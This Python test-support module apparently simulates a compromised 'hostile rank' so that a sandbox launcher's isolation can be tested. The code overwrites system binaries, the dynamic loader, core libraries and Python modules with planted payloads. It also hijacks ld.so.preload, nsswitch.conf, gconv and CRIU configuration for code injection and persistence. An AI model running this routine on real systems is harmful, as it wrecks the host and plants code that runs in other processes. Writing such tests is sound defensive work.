"""What a hostile rank does once: all that it can write and that a launcher might run, load or read is replaced.

    import plant; plant.everything(stdlib=True)

In its working directory lie planted.program, planted.library and planted.module, in hexadecimal digits
(`tests/support/planted.py`). `stdlib` takes the standard library too: whoever does that imports nothing afterwards.
"""

import shutil
import sysconfig
from pathlib import Path

MODULES = """
    json subprocess os select signal ctypes tarfile uuid shutil socket threading http traceback pwd encodings
    sitecustomize usercustomize planted
"""
PROGRAMS = """
    nsenter setpriv unshare mount umount sh bash dash cat tar ip nft iptables ip6tables iptables-restore criu env
    busybox python3
"""
FOLDERS = ("/usr/bin", "/usr/sbin", "/bin", "/sbin", "/usr/local/bin", "/usr/local/sbin")
PACKAGES = ("/usr/lib/python3/dist-packages", "/usr/local/lib/python3/dist-packages")
LIB = Path("/usr/lib/x86_64-linux-gnu")
LIBRARIES = ("libc.so", "libm.so", "libz.so", "libexpat", "libffi", "libgcc_s", "libnl", "libnet")


def put(path: Path, content: bytes, mode: int = 0o755) -> None:
    """A new file in place of the old, as `install` does it; what is in use goes on with the old."""
    draft = path.with_name(path.name + "~")
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        draft.write_bytes(content)
        draft.chmod(mode)
        draft.replace(path)
    except OSError as error:
        print("refused", path, error, flush=True)


def everything(stdlib: bool) -> None:
    found = (bytes.fromhex(Path(f"planted.{name}").read_text()) for name in ("program", "library", "module"))
    program, library, module = found
    python = Path("/usr/bin/python3").resolve().name
    own = [Path(sysconfig.get_path("stdlib"))] if stdlib else []
    for folder in (Path.cwd(), *map(Path, PACKAGES), *own):
        for name in MODULES.split():
            shutil.rmtree(folder / name, ignore_errors=True)
            put(folder / f"{name}.py", module)
        put(folder / "planted.pth", b"import planted\n")
    for place in FOLDERS:
        for name in (*PROGRAMS.split(), python):
            put(Path(place, name), program)
    for path in (*LIB.glob("*.so*"), *LIB.glob("*/*.so*")):
        if any(name in path.name for name in LIBRARIES):
            put(path, library)
    put(LIB / "ld-linux-x86-64.so.2", program)
    for name in ("planted.so", "criu/planted.so", f"{LIB.name}/libnss_planted.so.2", f"{LIB.name}/gconv/planted.so"):
        put(LIB.parent / name, library)
    settings(program)


def settings(program: bytes) -> None:
    """What tells others what to load and run; and, as far as it can be written, the launcher's own folder."""
    texts = {
        "/etc/ld.so.preload": "/usr/lib/planted.so",
        "/etc/ld.so.cache": "",
        "/etc/nsswitch.conf": "passwd: planted files\ngroup: planted files\nhosts: planted files dns",
        f"{LIB}/gconv/gconv-modules": "module PLANTED// INTERNAL planted 1",
        **dict.fromkeys(
            (f"{folder}/default.conf" for folder in ("/etc/criu", "/root/.criu", "/.criu")),
            "action-script /usr/bin/nsenter\nlibdir /usr/lib/criu",
        ),
    }
    for path, text in texts.items():
        put(Path(path), f"{text}\n".encode(), 0o644)
    agent = Path("/singularity/agent")
    for path in (*agent.glob("*"), *agent.glob("*/*")):
        put(path.with_name(f"{path.name}.planted"), program)
        if path.is_file():
            put(path, program)
